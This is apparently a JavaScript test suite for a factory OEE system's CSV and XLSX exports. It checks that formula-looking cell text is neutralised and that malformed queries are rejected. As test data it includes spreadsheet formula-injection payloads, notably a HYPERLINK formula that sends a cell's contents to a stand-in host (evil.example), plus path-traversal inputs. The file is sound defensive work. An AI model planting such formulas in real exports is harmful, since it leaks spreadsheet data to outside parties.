// The exports (shift history, downtime, audit trail) through their API handlers, against a real
// store: what a supervisor opens in a spreadsheet. Formula-looking text must open as text,
// numbers must stay numbers, and a bad request is refused by field and rule with nothing changed.
const assert = require('node:assert/strict');
const ExcelJS = require('exceljs');
const fc = require('fast-check');
const { openTempStore } = require('../support/store');
const { LINE_HANDLERS } = require('../../dist/lib/api');
const { computeMetrics, emptyTotals } = require('../../dist/lib/oee/totals');
const { traceCsv, recallCsv } = require('../../dist/lib/genealogy');

const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-2', '@SUM(A1:A9)'];
const principal = { role: 'supervisor', subject: 'sup-1' };
const call = (query = {}, params = {}) => ({ params, query, headers: {}, body: undefined, principal });
const plant = { workstations: ['WS-1', 'WS-2'], lines: ['L1'], reasonLabel: (code) => ({ JAM: 'Material jam', EVIL: INJECTIONS[2] })[code] };

async function readXlsx(buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer);
  const sheet = workbook.worksheets[0];
  const rows = [];
  sheet.eachRow((row) => rows.push(row.values.slice(1)));
  return rows;
}

function parseCsv(text) {
  // Enough of RFC 4180 for these files: quoted cells with doubled quotes, CRLF rows.
  const rows = [];
  let row = [], cell = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
  }
  return rows;
}

function insertShift(store, { line, scope, subject, shiftId, shiftName, start, end, runMs, good, total }) {
  const totals = { ...emptyTotals(), shiftMs: 8 * 3600e3, breakMs: 1800e3, runningMs: runMs, stoppedMs: 7.5 * 3600e3 - runMs, total, good, reject: total - good, idealMs: total * 1000, idealGoodMs: good * 1000 };
  const m = computeMetrics(totals);
  store.db.prepare(`INSERT INTO oee_shift_summary (line, scope, subject, shift_id, shift_name, day, start_time, end_time, planned_seconds, run_seconds, total_count,
    good_count, availability, performance, quality, oee, totals, metrics) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`)
    .run(line, scope, subject, shiftId, shiftName, start.slice(0, 10), start, end, m.times.plannedSeconds, m.times.runSeconds, total, good, m.availability, m.performance,
      m.quality, m.oee, '[]', JSON.stringify(m));
  return m;
}

function insertDowntime(store, { id, workstation, start, end, reason, classifiedBy }) {
  store.db.prepare(`INSERT INTO oee_downtime (downtime_id, line, workstation, start_time, end_time, seconds, machine_state, fault_code, order_id, operation_key,
    reason, classified_by, classified_at) VALUES (?, 'L1', ?, ?, ?, ?, 'faulted', ?, 'PO-1', '0010', ?, ?, ?)`)
    .run(id, workstation, start, end, (Date.parse(end) - Date.parse(start)) / 1000, INJECTIONS[3], reason, classifiedBy, end);
}

describe('exports: shift history, downtime and audit trail (handlers on a real store)', function () {
  this.timeout(60000);
  let store, ctx, metricsWs1;

  before(async () => {
    store = openTempStore();
    ctx = { store, now: () => Date.now(), plant };
    metricsWs1 = insertShift(store, { line: 'L1', scope: 'workstation', subject: 'WS-1', shiftId: '2026-03-02/A', shiftName: INJECTIONS[3], start: '2026-03-02T06:00:00.000Z', end: '2026-03-02T14:00:00.000Z', runMs: 6 * 3600e3, good: 900, total: 1000 });
    insertShift(store, { line: 'L1', scope: 'workstation', subject: 'WS-2', shiftId: '2026-03-02/A', shiftName: 'A', start: '2026-03-02T06:00:00.000Z', end: '2026-03-02T14:00:00.000Z', runMs: 7 * 3600e3, good: 500, total: 500 });
    insertShift(store, { line: 'L1', scope: 'line', subject: 'L1', shiftId: '2026-03-02/A', shiftName: 'A', start: '2026-03-02T06:00:00.000Z', end: '2026-03-02T14:00:00.000Z', runMs: 6 * 3600e3, good: 1400, total: 1500 });
    insertShift(store, { line: 'L1', scope: 'workstation', subject: 'WS-1', shiftId: '2026-03-02/B', shiftName: 'B', start: '2026-03-02T14:00:00.000Z', end: '2026-03-02T22:00:00.000Z', runMs: 3600e3, good: 10, total: 10 });
    insertDowntime(store, { id: 'D1', workstation: 'WS-1', start: '2026-03-02T07:00:00.000Z', end: '2026-03-02T07:10:00.000Z', reason: 'JAM', classifiedBy: INJECTIONS[0] });
    insertDowntime(store, { id: 'D2', workstation: 'WS-2', start: '2026-03-02T08:00:00.000Z', end: '2026-03-02T08:05:00.000Z', reason: 'EVIL', classifiedBy: 'sup-1' });
    insertDowntime(store, { id: 'D3', workstation: 'WS-1', start: '2026-03-02T15:00:00.000Z', end: '2026-03-02T15:01:00.000Z', reason: null, classifiedBy: null });
    await store.transact((s) => {
      s.appendEvent({ type: 'order.received', eventTime: '2026-03-02T05:00:00.000Z', orderId: 'PO-1', actor: INJECTIONS[0], payload: { note: INJECTIONS[1] } });
      s.appendEvent({ type: 'operation.started', eventTime: '2026-03-02T06:05:00.000Z', orderId: 'PO-1', operationKey: '0010', workstation: 'WS-1', actor: '-2', payload: { n: 1 } });
      s.appendEvent({ type: 'quantity.reported', eventTime: '2026-03-02T09:00:00.000Z', orderId: 'PO-2', operationKey: '0010', workstation: 'WS-2', actor: '@SUM(A1:A9)', payload: { good: 5 } });
    });
  });
  after(() => store.close());

  it('shift history as CSV: one row per shift and subject, the factors from the sums, formula text neutralised', async () => {
    const reply = await LINE_HANDLERS.exportShiftHistory(ctx, call({ workstation: 'WS-1', to: '2026-03-02T14:00:00Z' }));
    assert.equal(reply.statusCode, 200);
    assert.match(reply.headers['Content-Type'], /^text\/csv/);
    assert.equal(reply.headers['Content-Disposition'], 'attachment; filename="shift-history-WS-1-2026-03-02T14_00_00.csv"');
    const rows = parseCsv(reply.body);
    assert.equal(rows.length, 2);
    const row = Object.fromEntries(rows[0].map((name, i) => [name, rows[1][i]]));
    assert.equal(row.subject, 'WS-1');
    assert.equal(row.shift_name, `'${INJECTIONS[3]}`);
    assert.equal(Number(row.availability), metricsWs1.availability);
    assert.equal(Number(row.oee), metricsWs1.oee);
    assert.equal(Number(row.oee), (900 * 1000) / (7.5 * 3600e3)); // Σ ideal good time / planned time
    assert.equal(row.total_count, '1000');
  });

  it('shift history as XLSX read back: text stays text, numbers stay numbers; the line row is there without a workstation filter', async () => {
    const reply = await LINE_HANDLERS.exportShiftHistory(ctx, call({ format: 'xlsx', line: 'L1' }));
    assert.equal(reply.headers['Content-Type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    assert.ok(Buffer.isBuffer(reply.body));
    const rows = await readXlsx(reply.body);
    const header = rows[0];
    const col = (name) => header.indexOf(name);
    assert.deepEqual(rows.slice(1).map((r) => `${r[col('scope')]}:${r[col('subject')]}:${r[col('shift_name')]}`),
      ['workstation:WS-1:\'@SUM(A1:A9)', 'workstation:WS-2:A', 'line:L1:A', 'workstation:WS-1:B']);
    assert.equal(typeof rows[1][col('oee')], 'number');
    assert.equal(typeof rows[1][col('total_count')], 'number');
  });

  it('downtime: the reason code and its label from the plant, neutralised in CSV and XLSX', async () => {
    const csv = parseCsv((await LINE_HANDLERS.exportDowntime(ctx, call({ from: '2026-03-02T06:00:00Z', to: '2026-03-02T14:00:00Z' }))).body);
    const header = csv[0];
    const byId = Object.fromEntries(csv.slice(1).map((r) => [r[0], Object.fromEntries(header.map((h, i) => [h, r[i]]))]));
    assert.deepEqual(Object.keys(byId), ['D1', 'D2']);
    assert.deepEqual([byId.D1.reason_code, byId.D1.reason_label, byId.D1.classified_by, byId.D1.fault_code, byId.D1.seconds],
      ['JAM', 'Material jam', `'${INJECTIONS[0]}`, `'${INJECTIONS[3]}`, '600']);
    assert.equal(byId.D2.reason_label, "'-2");
    const xlsx = await readXlsx((await LINE_HANDLERS.exportDowntime(ctx, call({ format: 'xlsx', workstation: 'WS-1' }))).body);
    assert.deepEqual(xlsx.slice(1).map((r) => r[0]), ['D1', 'D3']);
    assert.equal(xlsx[1][header.indexOf('classified_by')], `'${INJECTIONS[0]}`);
    assert.equal(xlsx[1][header.indexOf('seconds')], 600);
    assert.equal(xlsx[2][header.indexOf('reason_code')], undefined); // unclassified: an empty cell, not the text "null"
  });

  it('audit trail: every event with who, when, what; filters by order, actor, type and time', async () => {
    const all = parseCsv((await LINE_HANDLERS.exportAuditTrail(ctx, call())).body);
    assert.deepEqual(all[0], ['seq', 'event_id', 'event_time', 'recorded_time', 'type', 'order_id', 'operation_key', 'workstation', 'actor', 'payload']);
    assert.deepEqual(all.slice(1).map((r) => r[8]), [`'${INJECTIONS[0]}`, "'-2", "'@SUM(A1:A9)"]);
    assert.deepEqual(JSON.parse(all[1][9]), { note: '+1' });
    const byOrder = parseCsv((await LINE_HANDLERS.exportAuditTrail(ctx, call({ orderId: 'PO-1', type: 'operation.started' }))).body);
    assert.deepEqual(byOrder.slice(1).map((r) => r[4]), ['operation.started']);
    const byActor = parseCsv((await LINE_HANDLERS.exportAuditTrail(ctx, call({ actor: '@SUM(A1:A9)' }))).body);
    assert.deepEqual(byActor.slice(1).map((r) => r[5]), ['PO-2']);
    const byTime = parseCsv((await LINE_HANDLERS.exportAuditTrail(ctx, call({ from: '2026-03-02T07:00:00+01:00', to: '2026-03-02T10:00:00Z' }))).body);
    assert.deepEqual(byTime.slice(1).map((r) => r[4]), ['operation.started', 'quantity.reported']);
    const xlsx = await readXlsx((await LINE_HANDLERS.exportAuditTrail(ctx, call({ format: 'xlsx' }))).body);
    assert.equal(typeof xlsx[1][0], 'number');
    assert.equal(xlsx[1][8], `'${INJECTIONS[0]}`);
    assert.equal(xlsx[2][8], "'-2");
  });

  it('the trace and recall CSVs neutralise formula text too (material, actor), numbers stay numbers', () => {
    const end = (id, material) => ({ kind: 'lot', id, material });
    const csv = traceCsv({ direction: 'backward', lot: {}, lots: [], orders: [], links: [{ level: 1, relation: 'consumed', from: end('RM-1', INJECTIONS[1]), to: end('FG-1', INJECTIONS[3]),
      quantity: -2, unit: 'KG', orderId: 'PO-1', operationKey: '0010', workstation: 'WS-1', actor: INJECTIONS[0], eventTime: '2026-03-02T06:00:00.000Z', backflush: false, eventSeq: 1 }] });
    const rows = parseCsv(csv);
    const row = Object.fromEntries(rows[0].map((h, i) => [h, rows[1][i]]));
    assert.deepEqual([row.from_material, row.to_material, row.actor, row.quantity], ["'+1", `'${INJECTIONS[3]}`, `'${INJECTIONS[0]}`, '-2']);
    const lot = { lot: 'RM-1', kind: 'lot', material: INJECTIONS[2], quantity: 5, onHand: 5, unit: 'KG', status: 'released', orderId: null, operationKey: null, workstation: null, eventTime: null };
    const recall = parseCsv(recallCsv({ lot, finished: [], affected: [], inStock: [], orders: [], links: 0 }));
    assert.deepEqual([recall[1][3], recall[1][4]], ["'-2", '5']);
  });

  it('refuses bad requests by field and rule, and changes nothing (fast-check, 60 cases)', async () => {
    const seqBefore = store.db.prepare('SELECT max(seq) AS seq, count(*) AS n FROM events').get();
    const bad = fc.oneof(
      fc.string({ minLength: 1, maxLength: 8 }).filter((f) => !['csv', 'xlsx'].includes(f)).map((format) => [{ format }, 'format', 'enum']),
      fc.oneof(fc.constantFrom('yesterday', '2026-13-01T00:00:00Z', '2026-03-02', '2026-03-02T06:00:00', '1709366400', ''), fc.string({ maxLength: 12 }))
        .filter((t) => Number.isNaN(Date.parse(t)) || !/Z|[+-]\d\d:\d\d$/.test(t)).map((from) => [{ from }, 'from', 'format']),
      fc.constantFrom('2026-02-30T00:00:00Z', '2026-04-31T06:00:00Z', '2026-03-02T24:00:00Z', '2026-03-02T06:60:00Z', '2026-03-02T06:00:00+25:00')
        .map((to) => [{ to }, 'to', 'format']), // Date.parse would roll these over into a real time
      fc.date({ min: new Date('2020-01-01'), max: new Date('2030-01-01'), noInvalidDate: true }).chain((d) => fc.integer({ min: 1, max: 1e9 }).map((ms) =>
        [{ from: new Date(d.getTime() + ms).toISOString(), to: d.toISOString() }, 'to', 'notBeforeFrom'])),
      fc.constantFrom('WS-9', 'ws-1', 'L1').map((workstation) => [{ workstation }, 'workstation', 'knownWorkstation']),
      fc.string({ minLength: 101, maxLength: 300 }).map((workstation) => [{ workstation }, 'workstation', 'maxLength']),
      fc.constantFrom('-WS', '../etc', 'WS 1', '=1').map((workstation) => [{ workstation }, 'workstation', 'pattern']),
      fc.constantFrom('limit', 'workstations', 'sql', 'Format').map((name) => [{ [name]: '1' }, name, 'unknownParameter']),
      fc.constant([{ format: ['csv', 'xlsx'] }, 'format', 'single']),
    );
    const exports = ['exportShiftHistory', 'exportDowntime', 'exportAuditTrail'];
    let cases = 0;
    await fc.assert(fc.asyncProperty(bad, fc.constantFrom(...exports), async ([query, field, rule], operationId) => {
      cases++;
      const reply = await LINE_HANDLERS[operationId](ctx, call(query));
      assert.equal(reply.statusCode, 400, JSON.stringify(query));
      assert.match(reply.headers['Content-Type'], /application\/json/);
      assert.equal(reply.body.error, 'invalidRequest');
      assert.ok(reply.body.errors.some((e) => e.field === field && e.rule === rule), `${JSON.stringify(query)} → ${JSON.stringify(reply.body.errors)}`);
    }), { numRuns: 60 });
    assert.ok(cases >= 60);
    assert.deepEqual(store.db.prepare('SELECT max(seq) AS seq, count(*) AS n FROM events').get(), seqBefore);
    // The handlers still answer a good request afterwards.
    assert.equal((await LINE_HANDLERS.exportAuditTrail(ctx, call())).statusCode, 200);
  });

  it('gives a safe file name whatever the filters hold', async () => {
    const reply = await LINE_HANDLERS.exportDowntime({ store, now: Date.now }, call({ workstation: 'WS/1:"x"', format: 'xlsx' }));
    // Without a plant every well-formed name is accepted; the pattern already refuses the quote.
    assert.equal(reply.statusCode, 400);
    const ok = await LINE_HANDLERS.exportDowntime({ store, now: Date.now }, call({ workstation: 'WS/1:x', format: 'xlsx' }));
    assert.equal(ok.headers['Content-Disposition'], 'attachment; filename="downtime-WS_1_x.xlsx"');
  });
});
